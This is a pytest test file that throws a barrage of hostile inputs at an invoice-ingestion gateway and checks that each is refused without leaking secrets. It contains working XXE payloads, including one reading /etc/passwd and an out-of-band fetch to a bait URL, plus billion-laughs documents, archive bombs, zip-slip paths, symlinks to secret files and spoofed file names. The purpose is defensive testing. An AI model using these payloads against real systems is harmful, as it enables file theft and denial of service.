"""Hostile input through a running `gateway run`: XXE, entity bombs, deep and huge documents, broken encodings,
archive bombs and slips, links and devices in archives, PDFs that are not what they say, names nobody should
send, a file that keeps growing, some of them over SFTP.

One gateway takes the whole storm (the `storm` fixture); the tests then check that each file ended with its
own specific outcome, that no secret reached a report, a log or any file the gateway wrote, that no URL
was fetched, that the gateway and its validator processes stayed under 500 MB, and that a valid invoice
sent afterwards is still integrated.
"""

from __future__ import annotations

import io
import json
import os
import stat
import tarfile
import threading
import zipfile
from dataclasses import dataclass
from pathlib import Path

import paramiko
import pytest
from lxml import etree

from gateway.ingest.names import recordable
from gateway.xmlwrite import xml_text
from tests.harness import (
    ACK_NS,
    REPORT_NS,
    SAMPLES,
    GatewayProcess,
    cli,
    drop,
    files,
    inbox,
    load_samples,
    outbox,
    renumber,
    tar_gz_of,
    wait_for,
    write_config,
    zip_of,
)
from tests.hostile import (
    billion_laughs,
    deep_nesting,
    deflated_run,
    diluted_zip,
    encrypted_zip,
    pdf_with,
    quadratic_blowup,
    symlink_zip,
    tar_with,
    with_doctype,
    zip_declaring,
    zip_with,
)
from tests.probes import Bait, RssSampler

pytestmark = pytest.mark.slow  # a storm of hostile files through a running gateway

SUPPLIER, PASSWORD = "acme", "acme-hostile-1"
FLOWS = SAMPLES / "flows"
VALID = (FLOWS / "ubl-invoice-ok.xml").read_bytes()
MB = 1 << 20
MAX_FLOW_BYTES = 105 * MB  # [ingest] max_flow_bytes, max_file_bytes: above the 100 MB text node, judged on its content
RSS_LIMIT = 500 * MB
STABLE = 0.5  # [ingest] stable_interval: ten times the pace of the growing file's writes


@dataclass(frozen=True)
class Expect:
    """The outcome a file must end with: its flow's state, the one fatal rule its report gives (every fatal
    finding carries it), and words its message must hold, so the rejection says why."""

    state: str
    rule: str | None = None
    says: str = ""


DOCTYPE = Expect("INCIDENTE", "IRR_SYNTAX", "DOCTYPE found")
NOT_XML = Expect("INCIDENTE", "IRR_SYNTAX", "Not well-formed XML")
UNKNOWN_ROOT = Expect("INCIDENTE", "IRR_TYPE_F", "Unknown document type")
WRONG_TYPE = Expect("INCIDENTE", "IRR_TYPE_F", "not of an allowed type")
BAD_NAME = Expect("INCIDENTE", "FLOW-NAME-INVALID", "rename the file")
UNSAFE_MEMBER = Expect("INCIDENTE", "IRR_ARCHIVE_F", "refused")
LINK_MEMBER = Expect("INCIDENTE", "IRR_ARCHIVE_F", "is a link or a special file")
BOMB = Expect("INCIDENTE", "IRR_ARCHIVE_F", "as a bomb")
NOT_ARCHIVE = Expect("INCIDENTE", "IRR_SYNTAX", "Not a readable")
TOO_LARGE_XML = Expect("INCIDENTE", "IRR_TAILLE_F", "XML too large to parse")
UTF32 = Expect("INCIDENTE", "IRR_SYNTAX", "Encoding UTF-32 is not accepted")
NESTED = Expect("REJETE", "IRR_TYPE_F", "archive member")
INTEGRATED = Expect("INTEGRE")


def _invoice(number: str) -> bytes:
    return renumber(VALID, number)


def _body(number: str) -> str:
    """The valid sample under number, without its XML declaration."""
    return _invoice(number).decode().split("?>", 1)[1]


def _encoded(number: str, encoding: str, codec: str, bom: bytes = b"") -> bytes:
    """The valid sample under number, declared as encoding and written with Python's codec, after bom."""
    return bom + f'<?xml version="1.0" encoding="{encoding}"?>{_body(number)}'.encode(codec)


def _in_invoice(number: str, prolog: str = "", note: str = "") -> bytes:
    """The valid sample under number, with prolog before its root element and note as its cbc:Note."""
    start, rest = _body(number).split("<cbc:Note>", 1)
    return f"<?xml version='1.0'?>{prolog}{start}<cbc:Note>{note}{rest.split('</cbc:Note>', 1)[1]}".encode()


def _pointing_outside(number: str, bait: Bait) -> bytes:
    """A valid invoice that points outside itself without a DTD: a stylesheet, a schema location and an
    XInclude of the secret (in a UBL extension, the one place its XSD lets a foreign element in)."""
    body = _body(number)
    root_end = body.index(">", body.index("<Invoice")) + 1
    ext = "urn:oasis:names:specification:ubl:schema:xsd:CommonExtensionComponents-2"
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{bait.secret.as_uri()}" parse="text"/>'
    references = (f' xsi:schemaLocation="urn:x {bait.url}/schema.xsd"'
                  ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
                  f'<ext:UBLExtensions xmlns:ext="{ext}"><ext:UBLExtension><ext:ExtensionContent>{include}'
                  "</ext:ExtensionContent></ext:UBLExtension></ext:UBLExtensions>")
    return (f'<?xml version="1.0"?><?xml-stylesheet href="{bait.url}/style.xsl"?>'
            f"{body[:root_end - 1]}{references}{body[root_end:]}").encode()


def _entity_files(bait: Bait) -> dict[str | bytes, tuple[bytes, Expect]]:
    secret, url = bait.secret.as_uri(), bait.url
    general = f'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{secret}">]>'
    return {
        "xxe-file-general.xml": (with_doctype(general), DOCTYPE),
        "xxe-file-parameter.xml": (with_doctype(f'<!DOCTYPE Invoice [<!ENTITY % x SYSTEM "{secret}"> %x;]>', ""),
                                   DOCTYPE),
        "xxe-passwd.xml": (with_doctype('<!DOCTYPE Invoice [<!ENTITY x SYSTEM "file:///etc/passwd">]>'), DOCTYPE),
        "xxe-url-general.xml": (with_doctype(f'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{url}/general">]>'), DOCTYPE),
        "xxe-url-parameter.xml": (with_doctype(f'<!DOCTYPE Invoice [<!ENTITY % x SYSTEM "{url}/parameter"> %x;]>',
                                               ""), DOCTYPE),
        "xxe-external-dtd.xml": (with_doctype(f'<!DOCTYPE Invoice SYSTEM "{url}/external.dtd">', ""), DOCTYPE),
        "xxe-out-of-band.xml": (with_doctype(f'<!DOCTYPE Invoice [<!ENTITY % file SYSTEM "{secret}">'
                                             f'<!ENTITY % dtd SYSTEM "{url}/oob.dtd"> %dtd;]>', "&send;"), DOCTYPE),
        "xxe-in-invoice.xml": (_in_invoice("XXE-1", general + "\n", "&x;"), DOCTYPE),
        "xxe-utf16.xml": (with_doctype(general).decode().encode("utf-16"), DOCTYPE),
        "xxe-utf32.xml": (with_doctype(general).decode().encode("utf-32"), DOCTYPE),
        "xxe-utf16be-no-bom.xml": (with_doctype(general).decode().encode("utf-16-be"), DOCTYPE),
        "xxe-utf8-bom.xml": (b"\xef\xbb\xbf" + with_doctype(general), DOCTYPE),
        "billion-laughs-utf8.xml": (billion_laughs("utf-8"), DOCTYPE),
        "billion-laughs-utf16.xml": (billion_laughs("utf-16"), DOCTYPE),
        "quadratic-blowup.xml": (quadratic_blowup(), DOCTYPE),
        "pointing-outside.xml": (_pointing_outside("REF-1", bait), INTEGRATED),  # to be delivered, never followed
    }


def _document_files() -> dict[str | bytes, tuple[bytes, Expect]]:
    text = VALID.decode()
    return {
        "deep-nesting.xml": (deep_nesting(10_000), Expect("INCIDENTE", "IRR_SYNTAX", "nesting too deep")),
        "huge-text-node.xml": (_in_invoice("BIG-1", note="A" * 100_000_000), TOO_LARGE_XML),
        "huge-attribute.xml": (_in_invoice("BIG-2").replace(b"<cbc:Note>", f'<cbc:Note languageID="{"b" * 12 * MB}">'
                                                            .encode()), TOO_LARGE_XML),
        "truncated.xml": (VALID[: len(VALID) // 2], NOT_XML),
        "empty.xml": (b"", Expect("INCIDENTE", "IRR_VIDE_F", "Empty document")),
        "whitespace.xml": (b" \r\n\t " * 100, Expect("INCIDENTE", "IRR_VIDE_F", "Empty document")),
        "binary.xml": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64, NOT_XML),
        "pdf-named.xml": ((FLOWS / "facturx-ok.pdf").read_bytes(), NOT_XML),
        "wrong-root-order.xml": (b'<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"><ID>1</ID>'
                                 b"</Order>", UNKNOWN_ROOT),
        "wrong-root-html.xml": (b"<html><body><script>alert(1)</script></body></html>", UNKNOWN_ROOT),
        "wrong-root-no-namespace.xml": (text.replace(' xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"',
                                                     "", 1).encode(), UNKNOWN_ROOT),
        "invalid-utf8.xml": (_invoice("BAD-1").replace(b"<cbc:Note>", b"<cbc:Note>\xff\xfe\xc3"), NOT_XML),
        "overlong-utf8.xml": (_invoice("BAD-2").replace(b"<cbc:Note>", b"<cbc:Note>\xc0\xbcscript\xc0\xbe"), NOT_XML),
        "unknown-encoding.xml": (text.replace('encoding="UTF-8"', 'encoding="x-no-such"').encode(),
                                 Expect("INCIDENTE", "IRR_SYNTAX", "Unsupported encoding")),
        "latin1-said-utf8.xml": (_invoice("BAD-3").decode().replace("<cbc:Note>", "<cbc:Note>é").encode("latin-1"),
                                 NOT_XML),
        # encodings XML allows are not a reason to refuse: each one a distinct invoice, integrated
        "utf16le-bom.xml": (_encoded("ENC-1", "UTF-16", "utf-16-le", b"\xff\xfe"), INTEGRATED),
        "utf16be-bom.xml": (_encoded("ENC-2", "UTF-16", "utf-16-be", b"\xfe\xff"), INTEGRATED),
        "utf16le-no-bom.xml": (_encoded("ENC-3", "UTF-16", "utf-16-le"), INTEGRATED),
        "utf16be-no-bom.xml": (_encoded("ENC-4", "UTF-16", "utf-16-be"), INTEGRATED),
        "utf8-bom.xml": (_encoded("ENC-5", "UTF-8", "utf-8", b"\xef\xbb\xbf"), INTEGRATED),
        "latin1.xml": (_encoded("ENC-6", "ISO-8859-1", "latin-1"), INTEGRATED),
        # XML requires no more than UTF-8 and UTF-16: UTF-32, which the rules' parser misreads, is refused
        "utf32le-bom.xml": (_encoded("ENC-7", "UTF-32", "utf-32-le", b"\xff\xfe\0\0"), UTF32),
        "utf32be-no-bom.xml": (_encoded("ENC-8", "UTF-32", "utf-32-be"), UTF32),
        "ebcdic.xml": (_encoded("ENC-9", "IBM037", "cp037"), Expect("INCIDENTE", "IRR_SYNTAX", "Unsupported encoding")),
    }


def _zip_member(name: str) -> bytes:
    return zip_with(zipfile.ZipInfo(name), b"<x/>")


def _archive_files() -> dict[str | bytes, tuple[bytes, Expect]]:
    good = {"ok.xml": _invoice("ARC-1")}
    valid_zip = zip_of({"a.xml": _invoice("ARC-2"), "b.xml": _invoice("ARC-3")})
    return {
        "bomb-ratio.zip": (zip_of({"bomb.xml": b"<a>" + b" " * (50 * MB) + b"</a>"}), BOMB),
        "bomb-declared.zip": (zip_declaring(11, 100 * MB),
                              Expect("INCIDENTE", "IRR_TAILLE_F", "expands to more than")),
        "bomb-declared-member.zip": (zip_declaring(1, 2 << 30),
                                     Expect("INCIDENTE", "IRR_TAILLE_F", "one document may")),
        # inflating less than 200 times, but to more than the gateway may hold: one member, or all of them
        "bomb-one-member.zip": (diluted_zip(1, 600 * MB), Expect("INCIDENTE", "IRR_TAILLE_F", "one document may")),
        "bomb-many-members.zip": (diluted_zip(280, 2 * MB), Expect("REJETE", "IRR_SYNTAX", "Not well-formed XML")),
        "bomb-nested.zip": (zip_of({"inner.zip": zip_of({"bomb.xml": b" " * (10 * MB)})}), NESTED),
        "nested.tar.gz": (tar_gz_of({"inner.tar.gz": tar_gz_of(good)}), NESTED),
        "flood.zip": (zip_of({f"m{i}.xml": b"<x/>" for i in range(600)}),
                      Expect("INCIDENTE", "IRR_ARCHIVE_F", "more than 500 members")),
        "slip-dotdot.zip": (_zip_member("../../escape.xml"), UNSAFE_MEMBER),
        "slip-absolute.zip": (_zip_member("/etc/cron.d/escape.xml"), UNSAFE_MEMBER),
        "slip-backslash.zip": (_zip_member("..\\..\\escape.xml"), UNSAFE_MEMBER),
        "slip-drive.zip": (_zip_member("C:/Windows/escape.xml"), UNSAFE_MEMBER),
        "control-member.zip": (_zip_member("a\x1b[2Jb.xml"),
                               Expect("INCIDENTE", "FLOW-NAME-INVALID", "control characters")),
        "forbidden-member.zip": (_zip_member("a#b.xml"), Expect("INCIDENTE", "IRR_NOM_F", "Archive member 'a#b.xml'")),
        "encrypted.zip": (encrypted_zip(), Expect("INCIDENTE", "IRR_ARCHIVE_F", "encrypted")),
        "symlink.zip": (symlink_zip(), LINK_MEMBER),
        "not-a-zip.zip": (b"PK\x03\x04 not really a zip", NOT_ARCHIVE),
        "truncated.zip": (valid_zip[: len(valid_zip) // 2], NOT_ARCHIVE),
        "empty.zip": (zip_of({}), Expect("INCIDENTE", "IRR_VIDE_F", "holds no file")),
        "symlink.tar.gz": (tar_with(tarfile.SYMTYPE, "link.xml", good), LINK_MEMBER),
        "hardlink.tar.gz": (tar_with(tarfile.LNKTYPE, "hard.xml", good), LINK_MEMBER),
        "chardev.tar.gz": (tar_with(tarfile.CHRTYPE, "char.xml", good), LINK_MEMBER),
        "blockdev.tar.gz": (tar_with(tarfile.BLKTYPE, "block.xml", good), LINK_MEMBER),
        "fifo.tar.gz": (tar_with(tarfile.FIFOTYPE, "fifo.xml", good), LINK_MEMBER),
        "slip-dotdot.tar.gz": (tar_gz_of({"../escape.xml": b"<x/>"}), UNSAFE_MEMBER),
        "slip-absolute.tar.gz": (tar_gz_of({"/tmp/escape.xml": b"<x/>"}), UNSAFE_MEMBER),
        "bomb.tar.gz": (tar_gz_of({"bomb.xml": b"\0" * (60 * MB)}), BOMB),
        "truncated.tar.gz": (tar_gz_of(good)[:200], NOT_ARCHIVE),
        "plain-tar.tar.gz": (tarfile.TarInfo("x").tobuf() + b"\0" * 1024, NOT_ARCHIVE),
    }


def _pdf_files(bait: Bait) -> dict[str | bytes, tuple[bytes, Expect]]:
    facturx = (FLOWS / "facturx-ok.pdf").read_bytes()
    xxe = with_doctype(f'<!DOCTYPE Invoice [<!ENTITY x SYSTEM "{bait.secret.as_uri()}">]>')
    return {
        "no-xml.pdf": ((FLOWS / "reject-facturx-no-xml.pdf").read_bytes(),
                       Expect("INCIDENTE", "FX-NO-XML", "no embedded")),
        "not-a-pdf.pdf": (b"%PDF-1.7\nnothing else", Expect("INCIDENTE", "IRR_SYNTAX", "Not a readable PDF")),
        "truncated.pdf": (facturx[: len(facturx) // 3], Expect("INCIDENTE", "IRR_SYNTAX", "Not a readable PDF")),
        "xxe-facturx.pdf": (pdf_with({"factur-x.xml": xxe}), DOCTYPE),
        "bomb-facturx.pdf": (pdf_with({"factur-x.xml": deflated_run(200 * MB)}, deflated=True),
                             Expect("INCIDENTE", "IRR_TAILLE_F", "The PDF expands past")),
    }


def _named_files() -> dict[str | bytes, tuple[bytes, Expect]]:
    return {
        "invoice.exe": (_invoice("TYP-1"), WRONG_TYPE),
        "invoice.xml.exe": (_invoice("TYP-2"), WRONG_TYPE),
        "no-extension": (_invoice("TYP-3"), WRONG_TYPE),
        "ctrl-\x01\x1b[31m.xml": (_invoice("NAM-1"), BAD_NAME),
        "new\nline.xml": (_invoice("NAM-2"), BAD_NAME),
        b"not-utf8-\xff\xfe.xml": (_invoice("NAM-3"), BAD_NAME),
        "facture\u202elmx.exe": (_invoice("NAM-4"), BAD_NAME),  # shown as "factureexe.xml"
        "-rf.xml": (_invoice("NAM-5"), INTEGRATED),  # names are data, never arguments: harmless
        "l" * 246 + ".xml": (VALID[:100], NOT_XML),  # the longest a zone's file system takes with drop's .part
    }


SFTP_FILES = {  # distinct bytes from their zone twins, or they would be refused as duplicates
    "sftp-billion-laughs.xml": (billion_laughs("utf-16-le"), DOCTYPE),
    "sftp-deep.xml": (deep_nesting(20_000), Expect("INCIDENTE", "IRR_SYNTAX", "nesting too deep")),
    "sftp-bomb.zip": (zip_of({"bomb.xml": b"<a>" + b"\t" * (7 * MB) + b"</a>"}), BOMB),
    "sftp-slip.tar.gz": (tar_gz_of({"../../sftp.xml": b"<x/>"}), UNSAFE_MEMBER),
}
SFTP_REFUSED_NAMES = ["s" * 296 + ".xml", "sftp-\x07.xml", "sftp#1.xml", "sftp\u202elmx.exe"]


def _shown(name: str | bytes) -> str:
    """The name a file's acknowledgement carries (what XML can hold of what was recorded)."""
    return xml_text(recordable(os.fsdecode(name)))


@pytest.fixture(scope="module")
def bait(tmp_path_factory):
    with Bait.planted(tmp_path_factory.mktemp("bait")) as found:
        yield found


@dataclass
class Storm:
    root: Path
    expected: dict[str | bytes, Expect]
    reports: dict[str | bytes, etree._Element]
    peaks: dict[str, int]
    sftp_errors: dict[str, str]
    growing_size: int
    planted: list[str]
    log: list[dict]


def _acks(root: Path) -> dict[str, etree._Element]:
    acks = {}
    for path in files(outbox(root, SUPPLIER), ".ack.xml"):
        ack = etree.parse(str(path)).getroot()
        acks[ack.findtext("a:originalName", namespaces=ACK_NS)] = ack
    return acks


def _report_files(root: Path, names) -> dict:
    """Where the report of each file in names is, by name; None for one not acknowledged or reported yet."""
    acks, found = _acks(root), {}
    for name in names:
        ack = acks.get(_shown(name))
        path = ack is not None and outbox(root, SUPPLIER) / f"{ack.findtext('a:flowId', namespaces=ACK_NS)}.report.xml"
        found[name] = path if path and path.exists() else None
    return found


def _wait_reports(root: Path, names, timeout: float) -> dict[str | bytes, etree._Element]:
    """The report of every file in names, by name, once all are written; a timeout names the missing ones."""
    found: dict = {}

    def complete() -> bool:
        found.update(_report_files(root, names))
        return all(found.values())

    try:
        wait_for(complete, timeout, "a report for every file")
    except AssertionError as exc:
        raise AssertionError(f"{exc}; none for {[name for name, path in found.items() if path is None]}") from None
    return {name: etree.parse(str(path)).getroot() for name, path in found.items()}


def _drop(root: Path, name: str | bytes, content: bytes) -> None:
    if isinstance(name, str):
        drop(root, SUPPLIER, name, content)
        return
    folder = os.fsencode(inbox(root, SUPPLIER))  # a name of bytes that are not UTF-8, as a shell user may give
    with open(os.path.join(folder, b".hostile.part"), "wb") as fh:
        fh.write(content)
    os.rename(os.path.join(folder, b".hostile.part"), os.path.join(folder, name))


def _plant(root: Path, bait: Bait) -> list[str]:
    """What a shell user (sshd mode) could leave in in/ besides files: links to secrets, a fifo; their names."""
    folder = inbox(root, SUPPLIER)
    os.symlink(bait.secret, folder / "link-to-secret.xml")
    os.symlink("/etc/passwd", folder / "link-to-passwd.xml")
    os.mkfifo(folder / "fifo.xml")
    return ["link-to-secret.xml", "link-to-passwd.xml", "fifo.xml"]


def _grow(root: Path, name: str) -> int:
    """Write name in in/ under its final name, a chunk at a time, past the largest flow accepted; its size."""
    chunk = b"<cbc:Note>" + b"g" * (2 * MB) + b"</cbc:Note>\n"
    paced = threading.Event()
    with open(inbox(root, SUPPLIER) / name, "wb") as fh:
        fh.write(VALID.split(b"<cbc:Note>")[0])
        while fh.tell() <= MAX_FLOW_BYTES:
            fh.write(chunk)
            fh.flush()
            paced.wait(STABLE / 10)  # the pace of the writer, not synchronisation
        return fh.tell()


def _fail_intake_once(root: Path, name: str) -> Expect:
    """Drop name while intake cannot take anything (its spool folder made a file, as a file the gateway may
    not read would fail it in production), until the watcher has logged the failure; then let it work."""
    spool = root / "var" / "spool"
    spool.rmdir()
    spool.touch()
    try:
        drop(root, SUPPLIER, name, _invoice("FAIL-1"))
        wait_for(lambda: any(line.get("event") == "zone_watch_failed" for line in _log(root)), 30, "the failure")
    finally:
        spool.unlink()
        spool.mkdir()
    return INTEGRATED


def _sftp(root: Path, port: int) -> tuple[paramiko.SSHClient, paramiko.SFTPClient]:
    host_key = paramiko.Ed25519Key.from_private_key_file(str(root / "var" / "sftp_host_ed25519_key"))
    client = paramiko.SSHClient()
    client.get_host_keys().add(f"[127.0.0.1]:{port}", host_key.get_name(), host_key)
    client.set_missing_host_key_policy(paramiko.RejectPolicy())
    client.connect("127.0.0.1", port, username=SUPPLIER, password=PASSWORD, look_for_keys=False,
                   allow_agent=False, timeout=10)
    return client, client.open_sftp()


def _upload(sftp: paramiko.SFTPClient, name: str, content: bytes) -> str | None:
    """Upload content as /in/name; the error the server answered, or None. putfo pipelines its writes and
    does not read their answers: its closing stat is what tells an upload the server discarded."""
    try:
        sftp.putfo(io.BytesIO(content), f"/in/{name}")
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"
    return None


def _log(root: Path) -> list[dict]:
    lines = (root / "gateway.log").read_text(errors="replace").splitlines()
    return [json.loads(line) for line in lines if line.startswith("{")]


def _sftp_port(root: Path) -> int | None:
    return next((line["port"] for line in _log(root) if line.get("event") == "sftp_started"), None)


@pytest.fixture(scope="module")
def storm(tmp_path_factory, bait) -> Storm:
    root = tmp_path_factory.mktemp("hostile")
    config = write_config(root, {
        "ingest": {"max_flow_bytes": MAX_FLOW_BYTES, "max_file_bytes": MAX_FLOW_BYTES, "stable_interval": STABLE},
        "sftp": {"enabled": True, "port": 0, "auth_delay": 0.05},
        "validate": {"processes": 1},
        "log": {"level": "debug"},
    })
    load_samples(config)
    cli(config, "accounts", "add", SUPPLIER, "--update", "--role", "supplier", "--password", PASSWORD)
    catalogue = {**_entity_files(bait), **_document_files(), **_archive_files(), **_pdf_files(bait),
                 **_named_files()}
    gateway = GatewayProcess(config)
    gateway.start()
    sampler = RssSampler(gateway.proc.pid).start()
    try:
        port = wait_for(lambda: _sftp_port(root), 60, "the SFTP server")
        for name, (content, _) in catalogue.items():
            _drop(root, name, content)
        planted = _plant(root, bait)
        client, sftp = _sftp(root, port)
        with client:
            sftp_errors = {name: _upload(sftp, name, content) for name, (content, _) in SFTP_FILES.items()}
            sftp_errors |= {name: _upload(sftp, name, _invoice("SFTP-1")) for name in SFTP_REFUSED_NAMES}
            sftp_errors["too-large.xml"] = _upload(sftp, "too-large.xml", b" " * (MAX_FLOW_BYTES + MB))
        expected = {**{name: expect for name, (_, expect) in catalogue.items()},
                    **{name: expect for name, (_, expect) in SFTP_FILES.items()}}
        _wait_reports(root, expected, 180)
        growing_size = _grow(root, "growing.xml")
        expected["growing.xml"] = Expect("INCIDENTE", "IRR_TAILLE_F", "too large")
        expected["while-intake-failed.xml"] = _fail_intake_once(root, "while-intake-failed.xml")
        expected["after-the-storm.xml"] = INTEGRATED
        drop(root, SUPPLIER, "after-the-storm.xml", _invoice("AFTER-1"))
        reports = _wait_reports(root, expected, 60)
    finally:
        peaks = sampler.stop()
        assert gateway.stop() == 0
    return Storm(root, expected, reports, peaks, sftp_errors, growing_size, planted, _log(root))


def _fatal_rules(report: etree._Element) -> list[str]:
    return report.xpath("//r:error[r:severity='fatal']/r:rule/text()", namespaces=REPORT_NS)


def _mismatch(report: etree._Element, expect: Expect) -> str | None:
    state = report.findtext("r:flow/r:state", namespaces=REPORT_NS)
    rules = _fatal_rules(report)
    messages = report.xpath("//r:error/r:message/text()", namespaces=REPORT_NS)
    if state != expect.state or set(rules) != ({expect.rule} if expect.rule else set()):
        return f"{state} {rules} {messages[:2]}"
    if expect.says and not any(expect.says in message for message in messages):
        return f"no message says {expect.says!r}: {messages[:2]}"
    return None


def test_there_are_at_least_40_hostile_files(storm):
    """The storm is the issue's: at least 40 files that must each be refused."""
    hostile = [name for name, expect in storm.expected.items() if expect.rule]
    assert len(hostile) >= 40, hostile


def test_each_file_ends_with_its_specific_outcome(storm):
    """Each file's report gives its state, its one specific rule and a message saying why."""
    wrong = {os.fsdecode(name): problem for name, expect in storm.expected.items()
             if (problem := _mismatch(storm.reports[name], expect))}
    assert wrong == {}


def test_the_growing_file_was_taken_whole_once_it_stopped(storm):
    """Never taken while it grew: the acknowledged size is its final one (then refused on size)."""
    ack = _acks(storm.root)["growing.xml"]
    assert int(ack.findtext("a:size", namespaces=ACK_NS)) == storm.growing_size


def test_sftp_refuses_bad_names_and_oversized_uploads_with_a_logged_reason(storm):
    """Over SFTP, bad names and an oversized upload fail for the client, are logged, and make no flow."""
    refused = [*SFTP_REFUSED_NAMES, "too-large.xml"]
    assert [name for name in refused if storm.sftp_errors[name] is None] == []
    assert all(storm.sftp_errors[name] is None for name in SFTP_FILES)
    logged = {(line.get("original_name"), line.get("reason")) for line in storm.log
              if line.get("event") in ("sftp_upload_refused", "sftp_upload_discarded")}
    assert {(name, "name") for name in SFTP_REFUSED_NAMES} | {("too-large.xml", "larger than max_flow_bytes")} <= logged
    acked = _acks(storm.root)
    assert [name for name in refused if _shown(name) in acked] == []


def test_links_and_fifos_in_the_zone_are_removed_never_taken(storm):
    """Links to secrets and a fifo left in in/ are removed with a logged reason, never read."""
    removed = {Path(line["path"]).name for line in storm.log if line.get("event") == "zone_entry_removed"}
    assert removed == set(storm.planted)
    assert [name for name in storm.planted if name in _acks(storm.root)] == []


def test_nothing_is_left_in_the_zone(storm):
    """Every entry of in/ ended somewhere: taken, or removed with a reason."""
    assert sorted(os.listdir(inbox(storm.root, SUPPLIER))) == []


def test_no_secret_reaches_a_report_a_log_or_any_file_written(storm, bait):
    """No URL fetched; neither the token nor /etc/passwd in the log or any file under var/ (zones, store...)."""
    assert bait.hits == []
    needles = [bait.token.encode(), bait.token.encode("utf-16-le")]
    passwd = Path("/etc/passwd")
    if passwd.exists():
        needles.append(passwd.read_bytes().splitlines()[0])
    written = [storm.root / "gateway.log",
               *(p for p in (storm.root / "var").rglob("*") if stat.S_ISREG(p.lstat().st_mode))]
    leaks = [(str(path), needle) for path in written for content in [path.read_bytes()] for needle in needles
             if needle in content]
    assert leaks == []


def test_memory_of_the_gateway_and_its_validators_stays_under_500_mb(storm):
    """Peak RSS of the gateway and of each of its children (the validator pool), sampled throughout."""
    assert "gateway" in storm.peaks and len(storm.peaks) >= 2, storm.peaks  # the validator process was sampled
    print("peak RSS:", {label: f"{rss / MB:.0f} MB" for label, rss in storm.peaks.items()})
    assert {label: rss for label, rss in storm.peaks.items() if rss >= RSS_LIMIT} == {}


def test_a_valid_invoice_after_the_storm_is_integrated(storm):
    """The gateway still works: the last invoice is integrated and delivered byte for byte."""
    report = storm.reports["after-the-storm.xml"]
    assert report.findtext("r:flow/r:state", namespaces=REPORT_NS) == "INTEGRE"
    invoice_id = report.findtext("r:invoices/r:invoice/r:invoiceId", namespaces=REPORT_NS)
    assert (outbox(storm.root, "mairie-exemple") / f"{invoice_id}.xml").read_bytes() == _invoice("AFTER-1")
